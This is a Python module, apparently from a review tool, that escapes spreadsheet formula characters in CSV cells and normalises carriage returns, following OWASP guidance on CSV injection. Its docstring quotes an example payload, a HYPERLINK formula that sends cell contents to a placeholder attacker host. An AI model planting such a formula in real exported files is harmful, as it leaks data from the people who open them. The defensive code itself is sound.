"""Cells of the CSV files review-tools writes for people to open in a spreadsheet (record sets, the
deduplication log, uncertain pairs, decision logs, forms), kept from running as formulas.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: a record title such as ``=HYPERLINK("http://evil.example/?x="&A1,"Click")``
would run when a reviewer opens the file.  As OWASP recommends ("CSV Injection"), such a cell is written
with a leading apostrophe, which spreadsheets show as text; review-tools removes that apostrophe again
when it reads its own files, so the value round-trips unchanged.

A carriage return inside a value is written as a line feed: the csv writer quotes a cell only for the
characters of its own line terminator (LF here), so a bare CR went out unquoted and split the row when the
file was read back (a decision log with such a note could no longer be read).
"""

from __future__ import annotations

from collections.abc import Mapping

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def _needs_mark(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_START)


def to_cell(value: object) -> str:
    """A value as a cell a spreadsheet shows as text (a value that itself starts with apostrophes before a
    formula character gets one more, so that :func:`from_cell` gives it back exactly); CR becomes LF."""
    text = "" if value is None else str(value)
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "'" + text if _needs_mark(text) else text


def from_cell(text: str) -> str:
    """A cell as written by :func:`to_cell`, back to its value."""
    return text[1:] if text.startswith("'") and _needs_mark(text) else text


def safe_row(row: Mapping[str, object]) -> dict[str, str]:
    """Every value of a CSV row through :func:`to_cell`."""
    return {k: to_cell(v) for k, v in row.items()}

